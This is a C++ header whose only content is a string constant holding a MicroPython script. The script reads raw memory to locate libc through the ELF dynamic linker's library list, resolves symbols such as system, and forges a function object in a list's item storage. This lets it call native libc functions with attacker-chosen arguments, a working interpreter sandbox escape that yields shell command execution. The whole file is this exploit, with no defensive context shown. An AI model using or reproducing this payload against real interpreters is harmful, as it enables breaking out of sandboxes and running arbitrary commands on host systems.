#pragma once

namespace tlscam {

/// `kForgedFunction` is a script that makes native code its own: it finds a function of libc through the
/// linker's list of libraries and calls it as if it were a function of Python's: `call(b'system', argument)`.
inline constexpr const char* kForgedFunction = R"(
import uctypes
def word(address):
    return int.from_bytes(uctypes.bytes_at(address, 8), 'little')
def text(address):
    found = b''
    while (byte := uctypes.bytes_at(address, 1)) != b'\0':
        found += byte
        address += 1
    return found
def dynamic(address):
    found = {}
    while word(address):
        found[word(address)] = word(address + 8)
        address += 16
    return found
def libc():
    program = word(id(abs) + 8) & ~4095
    while uctypes.bytes_at(program, 4) != b'\x7fELF':
        program -= 4096
    header = program + word(program + 32)
    while int.from_bytes(uctypes.bytes_at(header, 4), 'little') != 2:
        header += 56
    library = word(dynamic(program + word(header + 16))[21] + 8)
    while b'libc.so' not in text(word(library + 8)):
        library = word(library + 24)
    return word(library), dynamic(word(library + 16))
def function(name):
    base, parts = libc()
    symbol, names = parts[6], parts[5]
    while text(names + (word(symbol) & 0xffffffff)) != name:
        symbol += 24
    return base + word(symbol + 8)
def call(name, argument):
    forged = bytearray(word(id(abs)).to_bytes(8, 'little') + function(name).to_bytes(8, 'little'))
    given = bytearray(argument + b'\0')
    objects = [None, None]
    items = word(id(objects) + 24)
    uctypes.bytearray_at(items, 16)[:] = (
        uctypes.addressof(forged).to_bytes(8, 'little') + uctypes.addressof(given).to_bytes(8, 'little'))
    return objects[0](objects[1])
)";

}  // namespace tlscam
